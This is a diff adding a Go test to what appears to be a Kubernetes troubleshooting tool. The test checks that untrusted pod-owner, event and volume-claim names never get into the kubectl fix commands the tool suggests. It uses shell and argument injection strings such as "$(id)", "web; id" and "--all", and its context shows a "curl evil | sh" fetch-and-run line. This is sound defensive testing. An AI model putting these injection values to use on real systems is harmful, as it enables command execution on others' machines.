@@ -481,6 +481,32 @@ func TestFaults(t *testing.T) {
 	}
 }
 
+// TestNamesOfStrangers: API servers check neither what a pod says of its owner and its claims, nor what an event is about. A
+// text that a shell or kubectl does not take for a name gets into no command.
+func TestNamesOfStrangers(t *testing.T) {
+	for _, text := range []string{"--all", "-A", "--", "-n", ".web", "$(id)", "web; id", "web\nid", "pods/web", ""} {
+		for kind, name := range map[string]string{"Job": text, text: "web"} {
+			s := healthy(t)
+			p := broken(s, "web-3", "milan", stuck("ImagePullBackOff", "no"))
+			p.OwnerReferences[0].Kind, p.OwnerReferences[0].Name = kind, name
+			require.Contains(t, onlyProblem(t, s).Fix, "kubectl -n shop edit pod web-3\n", "%q", text)
+
+			s = healthy(t)
+			s.Only, s.Nodes, s.Unread[ReadNodes] = "shop", nil, denied("nodes")
+			s.Events = []corev1.Event{{Type: corev1.EventTypeWarning, Reason: offloadingv1beta1.ReasonFailedReflection, LastTimestamp: ago(time.Minute),
+				InvolvedObject: corev1.ObjectReference{Kind: kind, Namespace: "shop", Name: name}}}
+			require.Empty(t, Summarize(s).Warnings, "%q", text)
+		}
+		s := healthy(t)
+		p := broken(s, "db-0", "", unplaced("running PreBind plugin: binding volumes: timed out"))
+		p.Status.Conditions[0].Reason = corev1.PodReasonSchedulerError
+		for _, claim := range []string{text, "data"} {
+			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: claim}}})
+		}
+		require.Contains(t, onlyProblem(t, s).Fix, "kubectl -n shop describe pvc data\n", "%q", text)
+	}
+}
+
 // TestFixesOfStrangers: what others have written gets into no command.
 func TestFixesOfStrangers(t *testing.T) {
 	const evil = "x; curl evil | sh"
